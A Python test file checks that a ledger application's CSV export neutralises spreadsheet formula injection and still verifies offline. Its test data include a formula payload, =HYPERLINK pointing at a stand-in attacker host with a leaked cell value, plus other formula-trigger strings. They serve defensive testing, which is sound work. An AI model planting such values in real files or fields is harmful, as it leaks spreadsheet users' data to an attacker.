"""The CSV export is safe to open in a spreadsheet and still verifiable offline.

A reason or an organisation name such as `=HYPERLINK("https://evil.example","Click")`
would run as a formula in Excel or LibreOffice; the export writes such text cells with
one `'` in front, and `tools/verify_ledger.py` takes it off again before hashing.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from app.extensions import db
from app.ledger import chain, services
from app.ledger.models import LedgerEntry
from tools import verify_ledger

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]{2})?")


@pytest.fixture
def dangerous_ledger(make_exchange, make_org, coordinator, make_user):
    evil = make_org(FORMULA)
    plus = make_org("+44 charity", slug="plus-charity")
    make_exchange([evil, plus], actor=coordinator)
    services.reverse_entry(coordinator, 1, FORMULA)
    services.reverse_entry(coordinator, 2, "'quoted' already, @mention and -minus")
    db.session.commit()
    return evil


def _export_rows() -> list[dict[str, str]]:
    text = "".join(services.export_csv(None, services.LedgerFilter()))
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", ["", "plain", FORMULA, "+1", "-x", "@SUM(A1)", "\tTAB",
                                  "\rCR", "'quoted", "''twice", "a=b"])
def test_the_escape_is_undone_exactly(text):
    cell = chain.csv_text_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert chain.csv_text_value(cell) == text


def test_no_cell_can_run_as_a_formula(dangerous_ledger):
    rows = _export_rows()
    assert len(rows) == 4
    for row in rows:
        for name, cell in row.items():
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                # Only numbers (a reversal's quantity and value) start with a minus.
                assert name in ("quantity", "value") and NUMBER.fullmatch(cell), (name, cell)
    first = rows[0]
    assert first["giver_name"] == "'" + FORMULA
    assert first["receiver_name"] == "'+44 charity"
    reversal = rows[2]
    assert reversal["reason"] == "'" + FORMULA
    assert reversal["quantity"] == "-2" and reversal["value"] == "-200.00"
    assert rows[3]["reason"] == "''quoted' already, @mention and -minus"


def test_the_escaped_export_verifies_offline(dangerous_ledger, tmp_path, capsys):
    path = tmp_path / "ledger.csv"
    path.write_text("".join(services.export_csv(None, services.LedgerFilter())))
    assert verify_ledger.main([str(path), "--full"]) == 0, capsys.readouterr()
    assert "4 entries" in capsys.readouterr().out
    # The tool reads back exactly the stored text (that is what it hashes).
    reasons = [e["reason"] for e in verify_ledger.read_csv(str(path))[1]]
    stored = list(db.session.execute(
        db.select(LedgerEntry.reason).order_by(LedgerEntry.sequence)).scalars())
    assert reasons == stored
    # A cell changed after export is still caught.
    path.write_text(path.read_text().replace("-minus", "-minus!"))
    assert verify_ledger.main([str(path), "--full"]) == 1


def test_the_tool_unescapes_the_text_fields_the_chain_names():
    assert set(verify_ledger.CSV_TEXT_FIELDS) == chain.TEXT_FIELDS
